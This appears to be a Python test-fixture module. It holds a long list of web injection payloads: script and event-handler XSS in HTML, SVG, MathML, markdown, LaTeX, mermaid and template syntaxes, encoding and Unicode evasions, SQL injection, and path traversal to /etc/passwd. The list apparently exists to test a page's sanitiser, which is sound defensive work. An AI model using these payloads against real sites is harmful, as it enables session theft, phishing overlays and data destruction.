"""Texts that would run, load, send or hide something on a page that took them for markup.

Whichever works sets `window.caught`, opens a dialog or asks for something of caught.example.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

#: One on each line. CATCH stands for a script that tells, SITE for a place to ask.
_LINES = r"""
<script>CATCH</script>
<ScRiPt>CATCH</sCrIpT>
<script src=//SITE/a.js></script>
<script type=module src="https://SITE/a.mjs"></script>
<script type="text/x-handlebars">{{CATCH}}</script>
<script>CATCH
<script/x>CATCH</script/y>
<scr<script>ipt>CATCH</scr</script>ipt>
<<script>CATCH//<</script>
<script>alert('caught')</script>
<noscript><p title="</noscript><img src=x onerror=CATCH>">
<template><script>CATCH</script></template>
<template shadowrootmode=open><img src=x onerror=CATCH></template>
<img src=x onerror=CATCH>
<img src=x onerror="CATCH">
<img src='x'onerror='CATCH'>
<img/src=x/onerror=CATCH>
<IMG SRC=x ONERROR=CATCH>
<img src=https://SITE/beacon.png>
<img srcset="https://SITE/beacon.png 1x">
<img src="x` `<script>CATCH</script>"` `>
<img src=x:x onerror&equals;CATCH>
<img src=x onerror=&#119;&#105;&#110;&#100;&#111;&#119;.caught=1>
<img src="data:image/svg+xml,<svg onload=CATCH xmlns='http://www.w3.org/2000/svg'/>">
<img src=x onerror=CATCH
<img src="x" onerror="CATCH
<image src=x onerror=CATCH>
<picture><source srcset=https://SITE/a.webp><img></picture>
<svg onload=CATCH>
<svg/onload=CATCH>
<svg><script>CATCH</script></svg>
<svg><script href=data:,CATCH></script></svg>
<svg><a xlink:href="javascript:CATCH"><text y=20>click here</text></a></svg>
<svg><a href="javascript:CATCH"><circle r=400 /></a></svg>
<svg><a><animate attributeName=href values=javascript:CATCH /><text y=20>click</text></a></svg>
<svg><set attributeName=onmouseover to=CATCH />
<svg><use href="data:image/svg+xml,<svg id=x><image href=x onerror=CATCH /></svg>#x"/></svg>
<svg><image href=https://SITE/beacon.svg />
<svg><foreignObject><iframe srcdoc="<script>parent.caught=1</script>"></iframe></svg>
<svg><style>@import url(https://SITE/a.css)</style></svg>
<svg><animate onbegin=CATCH attributeName=x dur=1s>
<svg><discard onbegin=CATCH>
<svg><title><img src=x onerror=CATCH></title></svg>
<svg><desc><script>CATCH</script></desc></svg>
<math><mtext><img src=x onerror=CATCH></mtext></math>
<math href="javascript:CATCH">click</math>
<math><maction actiontype=statusline xlink:href="javascript:CATCH">click</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=CATCH></annotation-xml></math>
<iframe src="javascript:parent.caught=1"></iframe>
<iframe srcdoc="<script>parent.caught=1</script>"></iframe>
<iframe srcdoc="&lt;script&gt;parent.caught=1&lt;/script&gt;"></iframe>
<iframe src=https://SITE/></iframe>
<iframe onload=CATCH></iframe>
<iframe src="data:text/html,<script>top.caught=1</script>"></iframe>
<frameset onload=CATCH>
<object data="javascript:CATCH"></object>
<object data=https://SITE/a.swf></object>
<object type=text/html data="data:text/html,<script>top.caught=1</script>"></object>
<embed src="javascript:CATCH">
<embed src=https://SITE/a.pdf>
<applet code=https://SITE/a.class></applet>
<portal src=https://SITE/></portal>
<fencedframe src=https://SITE/></fencedframe>
<form action=https://SITE/ ><input name=q value=secret><button>Go</button></form>
<form action="javascript:CATCH"><button>Go</button></form>
<form id=f></form><button form=f formaction="javascript:CATCH">Go</button>
<button formaction=https://SITE/ formmethod=post>Sign in again</button>
<input autofocus onfocus=CATCH>
<input type=image src=x onerror=CATCH>
<input type=password placeholder="Your password">
<textarea autofocus onfocus=CATCH></textarea>
<select autofocus onfocus=CATCH><option>a</select>
<keygen autofocus onfocus=CATCH>
<isindex action="javascript:CATCH" type=image>
<meta http-equiv=refresh content="0;url=https://SITE/">
<meta http-equiv=refresh content="0;url=javascript:CATCH">
<meta http-equiv=Content-Security-Policy content="script-src * 'unsafe-inline'">
<meta name=referrer content=unsafe-url>
<base href=https://SITE/>
<base target=_blank href=//SITE/>
<link rel=stylesheet href=https://SITE/a.css>
<link rel=prefetch href=https://SITE/a>
<link rel=preconnect href=https://SITE>
<link rel=import href=https://SITE/a.html>
<link rel=manifest href=https://SITE/manifest.json>
<style>@import "https://SITE/a.css";</style>
<style>body{background:url(https://SITE/a.png)}</style>
<style>*{display:none!important}</style>
<style>p.question{visibility:hidden}</style><p class=question>
<style>@font-face{font-family:x;src:url(https://SITE/a.woff)}*{font-family:x}</style>
<style onload=CATCH></style>
<div style="background:url(https://SITE/a.png)">a</div>
<div style="position:fixed;inset:0;z-index:99999;background:red">over everything</div>
<div style="width:expression(CATCH)">
<div style="-moz-binding:url(https://SITE/a.xml#x)">
<p style="animation:spin 1s" onanimationstart=CATCH>
<body onload=CATCH>
<body onpageshow=CATCH onhashchange=CATCH>
<body background=https://SITE/a.png>
<html onclick=CATCH>
<table background=https://SITE/a.png><tr><td background=https://SITE/b.png>
<video><source onerror=CATCH></video>
<video src=https://SITE/a.mp4 poster=https://SITE/a.png autoplay></video>
<audio src=x onerror=CATCH></audio>
<video onloadstart=CATCH><source src=x></video>
<track src=https://SITE/a.vtt>
<details open ontoggle=CATCH><summary>more</summary></details>
<dialog open onclose=CATCH><form method=dialog><button>OK</button></form></dialog>
<div popover id=pop onbeforetoggle=CATCH></div><button popovertarget=pop>more</button>
<marquee onstart=CATCH>a</marquee>
<marquee loop=1 width=0 onfinish=CATCH>
<a href="javascript:CATCH">click here</a>
<a href=javascript:CATCH>click here</a>
<a href="JaVaScRiPt:CATCH">click here</a>
<a href=" &#14; javascript:CATCH">click here</a>
<a href="java&#x0A;script:CATCH">click here</a>
<a href="java&Tab;script&colon;CATCH">click here</a>
<a href="&#x6a&#x61&#x76&#x61script:CATCH">click here</a>
<a href="data:text/html,<script>CATCH</script>">click here</a>
<a href="data:text/html;base64,PHNjcmlwdD5vcGVuZXIuY2F1Z2h0PTE8L3NjcmlwdD4=">click here</a>
<a href="vbscript:MsgBox(1)">click here</a>
<a href=//SITE/>click here</a>
<a href="https:\\SITE\a">click here</a>
<a href=https://SITE/ ping=https://SITE/ping>click here</a>
<a href="blob:https://SITE/x">click here</a>
<a href=# onclick=CATCH>click here</a>
<a href="/?conversation=x" data-do=delete data-id=x>click here</a>
<a name=location href=https://SITE/>
<area shape=default href="javascript:CATCH">
<map name=m><area href="javascript:CATCH" coords=0,0,999,999></map><img usemap=#m>
<bdo dir=rtl onmouseover=CATCH>hover</bdo>
<b contenteditable autofocus onfocus=CATCH>
<p tabindex=0 autofocus onfocus=CATCH>
<p accesskey=x onclick=CATCH>
<x onclick=CATCH>click here</x>
<custom-element onpointerenter=CATCH>click here</custom-element>
<a id=element><a id=element name=trigger href=https://SITE/>
<img name=querySelector><form name=body><input name=dataset></form>
javascript:CATCH
javascript:/*--></title></style></textarea></script><svg/onload=CATCH>
data:text/html,<script>CATCH</script>
vbscript:CATCH
view-source:javascript:CATCH
[click here](javascript:CATCH)
[click here](<javascript:CATCH>)
[click here]( javascript:CATCH "title")
[click here](JaVaScRiPt&colon;CATCH)
[click here](data:text/html;base64,PHNjcmlwdD5vcGVuZXIuY2F1Z2h0PTE8L3NjcmlwdD4=)
[click here](https://SITE/)
[click here](https://SITE/ "on" onclick=CATCH)
![picture](https://SITE/beacon.png)
![picture](x"onerror="CATCH)
![picture](x){onerror=CATCH}
[![picture](https://SITE/beacon.png)](javascript:CATCH)
[click here][link]
<javascript:CATCH>
<https://SITE/>
https://SITE/autolink
www.SITE
[a]: javascript:CATCH
`<img src=x onerror=CATCH>`
```html <img src=x onerror=CATCH> ```
~~~<script>CATCH</script>~~~
> <img src=x onerror=CATCH>
* <img src=x onerror=CATCH>
| a | <img src=x onerror=CATCH> |
**bold** _<b onclick=CATCH>slanted</b>_ ~~struck~~
<details markdown=1><summary>[x](javascript:CATCH)</summary></details>
:::html <img src=x onerror=CATCH> :::
<!-- --><img src=x onerror=CATCH> <!-- -->
{{ CATCH }}
{{{ CATCH }}}
{{constructor.constructor('CATCH')()}}
{{#if value}}<img src=x onerror=CATCH>{{/if}}
{{#each this}}{{@key}}{{/each}}
{{#with "s" as |string|}}{{lookup string.sub "constructor"}}{{/with}}
{{> @partial-block}}
{{lookup (lookup this "constructor") "name"}}
{{!-- a comment --}}
{% raw %}<img src=x onerror=CATCH>{% endraw %}
{% include "/etc/hostname" %}
{{ config.items() }} {{ self.__init__.__globals__ }}
{{ ''.__class__.__mro__ }}
{# a comment #}
${CATCH}
${(()=>{CATCH})()}
${value}
${props.value}
#{CATCH}
`${CATCH}`
`+(CATCH)+`
\`${CATCH}\`
${`${CATCH}`}
\${CATCH}
$\{CATCH}
%{CATCH}
$(CATCH)
<%= CATCH %>
<% CATCH %>
<?php echo 1 ?><img src=x onerror=CATCH>
@{CATCH} @(CATCH)
[[ CATCH ]] [(CATCH)]
*{CATCH} ~{CATCH} |CATCH|
{@html "<img src=x onerror=CATCH>"}
{#if true}<img src=x onerror=CATCH>{/if}
{#await 1 then x}{x}{/await}
<svelte:element this=script>CATCH</svelte:element>
<div ng-app>{{$eval.constructor('CATCH')()}}</div>
<div v-html="'<img src=x onerror=CATCH>'">{{ _c.constructor('CATCH')() }}</div>
<div x-data x-init=CATCH></div>
<div hx-get=https://SITE/ hx-trigger=load></div>
<div data-bind="html: CATCH"></div>
<gradio-app src=https://SITE></gradio-app>
$$\href{javascript:CATCH}{click}$$
$\url{javascript:CATCH}$
$$\htmlData{do=delete}{x}\htmlStyle{position:fixed}{y}$$
$\includegraphics{https://SITE/a.png}$
\[\unicode{<img src=x onerror=CATCH>}\]
\(\style{background:url(https://SITE/a.png)}{x}\)
\begin{equation}\text{</script><script>CATCH</script>}\end{equation}
```mermaid graph TD; A-->B; click A "javascript:CATCH"; ```
graph LR; a["<img src=x onerror=CATCH>"]
%%{init: {"securityLevel": "loose", "themeCSS": "*{background:url(https://SITE/a.png)}"}}%%
&lt;script&gt;CATCH&lt;/script&gt;
&amp;lt;script&amp;gt;CATCH&amp;lt;/script&amp;gt;
&#60;img src=x onerror=CATCH&#62;
&#x3c;img src=x onerror=CATCH&#x3e;
&#0000060img src=x onerror=CATCH&#0000062
&LT;img src=x onerror=CATCH&GT;
%3Cscript%3ECATCH%3C/script%3E
%253Cscript%253ECATCH%253C/script%253E
\u003cimg src=x onerror=CATCH\u003e
\x3cimg src=x onerror=CATCH\x3e
\74img src=x onerror=CATCH\76
+ADw-script+AD4-CATCH+ADw-/script+AD4-
＜img src=x onerror=CATCH＞
‹script›CATCH‹/script›
PHNjcmlwdD5DQVRDSDwvc2NyaXB0Pg==
&nbsp;&shy;&zwnj;&amp;&quot;&apos;&NotEqualTilde;&copy
<a<b<c
<p
</p
<!--
-->
<!DOCTYPE html><script>CATCH</script>
<![CDATA[<img src=x onerror=CATCH>]]>
<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "https://SITE/">]><a>&b;</a>
<plaintext>
<xmp><img src=x onerror=CATCH></xmp>
<listing>&lt;img src=x onerror=CATCH&gt;</listing>
<title><img src=x onerror=CATCH></title>
<noembed><img src=x onerror=CATCH></noembed>
<math><mi><style><img title="</style><img src=x onerror=CATCH>">
<svg></p><style><a id="</style><img src=x onerror=CATCH>">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=CATCH>
<table><td><math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=CATCH src=1>">
<svg><style><!--</style><img src=x onerror=CATCH>-->
<a title="--><img src=x onerror=CATCH>"><!--
<select><template><img src=x onerror=CATCH></template></select>
<option><style></option></select><img src=x onerror=CATCH></style>
</p></section></div></aside><script>CATCH</script>
</p></section><section class=turn><p class=question>A question that nobody asked</p>
</mark></div></aside><img src=x onerror=CATCH>
</a></li></ul></nav><nav><a href="javascript:CATCH">Ask</a>
</button></th></tr></tbody></table><img src=x onerror=CATCH>
</textarea></label></form><img src=x onerror=CATCH>
</title></head><body><img src=x onerror=CATCH>
</script><script>CATCH</script>
</style><img src=x onerror=CATCH>
"></textarea><script>CATCH</script>
"><img src=x onerror=CATCH>
'><img src=x onerror=CATCH>
" onclick="CATCH" x="
' onclick='CATCH' x='
" autofocus onfocus="CATCH
x" data-do="delete" data-id="x
" data-turn="none" data-number="99
" style="position:fixed;inset:0" x="
x onmouseover=CATCH
"; CATCH; //
'; CATCH; //
\"; CATCH; //
'-(CATCH)-'
"}; CATCH; ({"a": "
{"do": "delete", "id": "x"}
{"__proto__": {"caught": 1}}
__proto__
constructor
undefined
[object Object]
true
None
-1e999
<button data-do="delete" data-id="x">Delete it for good</button>
<button data-do=sync>Show the source</button>
<button type=button data-do=start>click here</button>
<mark data-number="1" class="current">Words that no article has</mark>
<p class="notice" role="alert">Your account was closed.</p>
<input data-typed=find value=x><select data-changed=run><option>x</select>
<div data-address="https://SITE/"></div>
<div data-address="javascript:CATCH" data-at-end data-focus tabindex=0></div>
<label for=find>Type your password here</label>
<slot name=x></slot><span slot=x>x</span>
'; DROP TABLE conversation; --
' OR 1=1 UNION SELECT title FROM article --
title:"x" AND (body:* OR NOT [a TO z])~2^9
%n%n%s%x {0} {0.__class__} %(caught)s
/file=/etc/passwd
/gradio_api/file=../../conversations.sqlite
../../../etc/passwd
..\..\windows\win.ini
CON
file:///etc/passwd
"""

#: Those that a line cannot hold or that would not be seen in one.
_ESCAPED = (
    "[click here][evil]\n\n[evil]: javascript:CATCH",
    "```mermaid\ngraph TD\nA-->B\nclick A call CATCH\n```",
    "<a href='java\tscript:CATCH'>click here</a>",
    "<a href='java\nscript:CATCH'>click here</a>",
    "<img src=x\nonerror=CATCH>",
    "<img src=x\x0conerror=CATCH>",
    "<img src=x\x0bonerror=CATCH>",
    "<script\x20type='a'>\nCATCH\n</script>",
    "<\x00script>CATCH</script>",
    "<img src=x onerror\x00=CATCH>",
    "tin\x00zinc",
    "tin\x01\x08\x1b[31mzinc\x7f",
    "tin\x85zinc\u2028lead\u2029gold",
    "\u202egnp.exe\u202c tin",
    "\u2066\u202e<script>CATCH</script>\u2069",
    "tin\u200bzinc\u200clead\u200dgold\u2060",
    "\ufefftin",
    "tin\ufffezinc\uffff",
    "\u034f\u061c\u115f\u3164",
    "\U000e0041\U000e0042 tags",
    "tin\u0301\u0302\u0303\u0304\u0305\u0306\u0307" * 4,
    "\ufdfd" * 20,
    "\ufe64img src=x onerror=CATCH\ufe65",
    "\uff1cscript\uff1eCATCH\uff1c/script\uff1e",
    "👩\u200d👩\u200d👧\u200d👦 <b>family</b>",
    "‮معدن <img src=x onerror=CATCH> 矿产",
    "a" * 180,
    "<b>" * 60,
    "[" * 180 + "](x)",
    "&" * 180,
)

_EVENTS = (
    "abort animationend auxclick beforeinput beforematch blur cancel canplay change "
    "click contextmenu copy cut dblclick drag dragenter drop error focus focusin "
    "formdata gotpointercapture input invalid keydown load mousedown mouseenter "
    "mouseover paste pointerdown pointermove pointerover pointerrawupdate reset "
    "resize scroll scrollend search select submit toggle touchstart transitionend "
    "transitionrun wheel "
)


def _filled(text: str) -> str:
    return text.replace("CATCH", "window.caught=1").replace("SITE", "caught.example")


PAYLOADS: tuple[str, ...] = tuple(
    map(
        _filled,
        dict.fromkeys(
            [
                *_LINES.strip().splitlines(),
                *_ESCAPED,
                *(f"<b tabindex=0 on{event}=CATCH>{event}</b>" for event in _EVENTS.split()),
                *(f'x" on{event}="CATCH' for event in _EVENTS.split()),
            ]
        ),
    )
)


def packed(payloads: Iterable[str] = PAYLOADS, most: int = 190) -> list[str]:
    """The same put together, several in a text of so many characters, so that fewer are shown."""
    texts = [""]
    for payload in payloads:
        if texts[-1] and len(texts[-1]) + len(payload) >= most:
            texts.append("")
        texts[-1] += f" {payload}" if texts[-1] else payload
    return texts


def file_name(text: str) -> str:
    """As near to `text` as the name of a file can be."""
    return re.sub(r"[\x00/\ud800-\udfff]", "\\\\", text).encode()[:200].decode(errors="ignore")
